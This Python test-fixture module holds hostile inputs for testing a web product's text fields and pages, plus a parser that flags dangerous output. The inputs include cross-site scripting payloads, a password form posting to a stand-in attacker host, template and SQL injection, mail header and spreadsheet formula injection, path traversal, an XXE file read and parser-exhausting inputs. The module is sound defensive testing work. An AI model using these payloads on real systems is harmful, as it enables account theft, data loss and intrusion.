"""Texts meant to do harm, for every field that takes a text and every page that shows one.

`HOSTILE` are several lines of Markdown, `LINES` single lines such as names and titles, `HUGE`
texts that are large, deep or slow to read, `REFUSED` texts with characters that no field takes.
`dangers` says what in a page or a part of one acts, leads astray or was made by such a text.
Each text is its own: tests of mail, feeds and search use the same tables.
"""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in a paragraph": "hello <script src=//evil.example>",
    "an open tag": "<img src=x onerror=alert(1)",
    "an image of raw HTML": '<img src="x" onerror="alert(1)">',
    "a handler": '<p onclick="alert(1)">text</p>',
    "an SVG": "<svg/onload=alert(1)>",
    "MathML": "<math><mi//xlink:href='javascript:alert(1)'>",
    "a style": "<style>body{display:none}</style>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "a form": "<form action=//evil.example><input name=password></form>",
    "a base": "<base href=//evil.example>",
    "a comment": "<!--><script>alert(1)</script>-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "a template": "{{ config }} {% include 'x' %} ${7*7}",
    "javascript": "[x](javascript:alert(1))",
    "javascript in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript as entities": "[x](&#106;avascript&colon;alert(1))",
    "javascript with a tab": "[x](java\tscript:alert(1))",
    "javascript with an encoded tab": "[x](java&#9;script:alert(1))",
    "javascript behind a control": "[x](&#1;javascript:alert(1))",
    "javascript in brackets": "[x](<javascript:alert(1)>)",
    "javascript in a definition": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript as an autolink": "<javascript:alert(1)>",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript": "[x](vbscript:msgbox)",
    "a file": "[x](file:///etc/passwd)",
    "a blob": "[x](blob:https://e.example/1)",
    "a view of the source": "[x](view-source:https://e.example)",
    "a link of this site": "[Sign in](/sign-in)",
    "a relative link": "[x](sign-in)",
    "an anchor": "[x](#main)",
    "a protocol-relative link": "[x](//evil.example)",
    "backslashes for slashes": "[x](\\\\\\\\evil.example)",
    "a slash and a backslash": "[x](/\\evil.example)",
    "a scheme and a backslash": "[x](https:\\\\evil.example)",
    "a scheme with three slashes": "[x](https:///evil.example)",
    "a scheme without slashes": "[x](https:evil.example)",
    "a title": '[x](https://e.example "\\" onmouseover=alert(1)")',
    "a title with a reference": '[x](https://e.example "[[figure:x]]")',
    "a quote in an address": '[x](https://e.example/"onmouseover="alert(1))',
    "an image": "![x](https://e.example/tracking.gif)",
    "an image in a link": "[![x](https://e.example/t.gif)](https://e.example)",
    "a link in a link": "[a [b](https://b.example) c](https://a.example)",
    "unbalanced brackets": "[[[[x](https://e.example)](y)](z",
    "a fence with an attribute": '```" onclick="alert(1)\ncode\n```',
    "a fence with a reference": "```[[figure:x]]\ncode\n```",
    "a start that is no number": "0000000009. x",
    "a reference in an address": "[x](https://e.example/[[figure:x]])",
    "a reference as a host": "[x](https://[[figure:x]]/)",
    "a reference in a link": "[see [[figure:x]]](https://e.example)",
    "a reference in an autolink": "<https://e.example/[[figure:x]]>",
    "a reference in code": "`[[figure:x]]`",
    "a reference around a tag": "[[figure:<b>x</b>]]",
    "a reference in entities": "&#91;[figure:x]&#93;",
    "direction controls": "\u202egnissim\u202c",
    "a null": "a\x00b <scr\x00ipt>",
    "a lone surrogate's replacement": "\ufffd<script>\ufffd",
    "a heading": "# Big\n\nTitle\n=====",
    "an attribute of htmx": '<a hx-get="/sign-out" hx-trigger="load">x</a>',
    "an id of the page": '<p id="main">x</p>',
    "the end of the comment": "</div></article></li></ol></section><h1>Taken over</h1>",
    "an expression": "{{ 7919 * 7907 }} {% for x in config %}{{ x }}{% endfor %} #{7919 * 7907}",
    "the reference of a summary": "[[comment:1]] [[figure:poll-1]]",
    "a mention in a link": "[@ada and #1](https://e.example/#1)",
    "a mention in code": "`#1 @ada`",
    "an entity that looks like a number": "&#49; &#x40;ada &num;1",
    "the end of a text area": "</textarea><script>alert(1)</script>",
    "the end of a script": "</script></title></style>--><script>alert(1)</script>",
}

HUGE = {
    "quotes": "> " * 10_000 + "x",
    "lists": "- " * 10_000 + "x",
    "numbered lists": "1. " * 10_000 + "x",
    "indented lists": "\n".join(" " * (2 * level) + "- x" for level in range(300)),
    "brackets": "[" * 20_000,
    "link starts": "[a](" * 10_000,
    "image starts": "![" * 20_000,
    "emphasis": "*a " * 10_000,
    "mixed emphasis": "_*" * 10_000 + "x" + "*_" * 10_000,
    "backticks": "".join("`" * n + " " for n in range(1, 200)),
    "backslashes": "\\" * 50_000,
    "ampersands": "&" * 50_000,
    "angle brackets": "<" * 50_000,
    "one long line": "a" * 100_000,
    "one long line of words": "word " * 20_000,
    "definitions": "".join(f"[{n}]: https://e.example/{n}\n" for n in range(3_000)),
    "one definition used often": f"[x]: https://e.example/{'y' * 2_000}\n\n" + "[x]" * 1_000,
    "references": "[[figure:x]]" * 5_000,
    "open references": "[[figure:" * 10_000,
    "open tags in text": "<a " * 20_000,
    "words without a space": "x" * 5_000,
    "letters without a space": "\u0639" * 5_000,
    "marks upon one letter": "a" + "\u0300" * 4_000,
    "quotes and lists in turn": "> - " * 1_200 + "x",
    "lists in quotes in lists": "1. > - " * 700 + "x",
    "emphasis in emphasis": "***" * 1_600 + "x",
    "tables of nothing": "|" * 4_900,
    "blank lines": "x" + "\n" * 4_900 + "x",
    "addresses": "https://e.example/" * 270,
    "a regex trap of addresses": "a@" * 2_400 + "!",
    "a regex trap of spaces": " " * 2_400 + "x" + " " * 2_400,
    "a regex trap of entities": "&#" * 2_400,
    "numbers of proposals": "#1 " * 1_600,
    "names": "@ada " * 980,
}

LINES = {
    "a script": "<script>alert(1)</script>",
    "a handler": "\"><img src=x onerror='alert(1)'>",
    "a quoted handler": "' onmouseover='alert(1)' x='",
    "an expression": "{{ 7919 * 7907 }}{% print(config) %}",
    "a format": "%(name)s {0.__class__} %s ${7919 * 7907}",
    "a header of mail": "Ada%0d%0aBcc: evil@evil.example",
    "an encoded word of mail": "=?utf-8?q?Ada=0d=0aBcc:_evil@evil.example?=",
    "an address in a name": "Ada <evil@evil.example>, Bo",
    "a formula": '=HYPERLINK("https://evil.example","Ada")',
    "a formula with a plus": "+1+cmd|' /C calc'!A0",
    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula with an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a homoglyph of a name": "\u0410d\u0430 L\u043ev\u0435l\u0430\u0441\u0435",
    "letters of full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "a ligature": "\ufdfa\ufdfa\ufdfa\ufdfa",
    "marks upon marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319algo Zalgo",
    "a query of a database": "Robert'); DROP TABLE comments;--",
    "a pattern of a search": '100%_ " OR NEAR(* AND ^ -',
    "a path": "../../../../etc/passwd",
    "an entity of XML": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "the end of CDATA": "]]><script>alert(1)</script>",
}
_DIRECTIONS = {
    "right-to-left override": "\u202e",
    "left-to-right override": "\u202d",
    "right-to-left embedding": "\u202b",
    "isolate": "\u2067",
    "end of an isolate": "\u2069",
    "Arabic letter mark": "\u061c",
    "zero-width space": "\u200b",
    "word joiner": "\u2060",
    "byte-order mark": "\ufeff",
}
_CONTROLS = {"NUL": "\x00", "escape": "\x1b", "backspace": "\x08", "delete": "\x7f"}
REFUSED = {name: f"Ada{mark} Lovelace" for name, mark in (_DIRECTIONS | _CONTROLS).items()}
SURROGATE = "Ada \ud800 Lovelace"
"""No text at all: half a character, which cannot be stored or sent."""
PRODUCT = str(7919 * 7907)
"""What an expression in a text would come to if anything worked it out."""
LEADS_ASTRAY = ("javascript:", "data:", "vbscript:", "blob:", "file:", "//")


class _Acting(HTMLParser):
    """Collects what in a page acts or leads elsewhere."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element or an attribute that only a hostile text would have made."""
        given = {name: value or "" for name, value in attrs}
        if tag in {"iframe", "object", "embed", "base", "math", "style", "marquee", "frame"}:
            self.found.append(f"<{tag}>")
        from_elsewhere = not given.get("src", "").startswith("/assets/")
        if tag in {"script", "img"} and from_elsewhere and given.get("type") != "application/json":
            self.found.append(f"<{tag} {given}>")
        self.found += [f"{name} on <{tag}>" for name in given if name.startswith("on")]
        self.found += [f"{name} on <{tag}>" for name in given if name == "style"]
        for name in ("href", "src", "action", "formaction", "hx-get", "hx-post"):
            address = re.sub(r"[\s\x00-\x1f]", "", given.get(name, "")).lower()
            if address.startswith(LEADS_ASTRAY) or "\\" in address:
                self.found.append(f"{name}={given[name]!r}")
        if tag in {"form", "button"}:
            where = given.get("action") or given.get("formaction") or ""
            if urlsplit(where).netloc:
                self.found.append(f"<{tag}> to {where}")
        self._note_ignored(tag, given)

    def handle_endtag(self, tag: str) -> None:
        """Leave what htmx does not read."""
        if self._open and self._open[-1] == tag:
            self._open.pop()

    def _note_ignored(self, tag: str, given: dict[str, str]) -> None:
        """Within what htmx ignores, an attribute of htmx came from a person."""
        if self._open and any(name.startswith(("hx-", "data-hx-")) for name in given):
            self.found.append(f"htmx within what it ignores: <{tag}>")
        if "hx-ignore" in given or (self._open and self._open[-1] == tag):
            self._open.append(tag)


def dangers(html: str) -> list[str]:
    """What is dangerous in a page, a part of one or a mail as HTML; empty when nothing is.

    The product's own scripts and pictures come from /assets/ and its forms post to itself.
    """
    found = _Acting(html).found
    if PRODUCT in html:
        found.append("an expression was worked out")
    found += [f"U+{ord(mark):04X}" for mark in _CONTROLS.values() if mark in html]
    return found
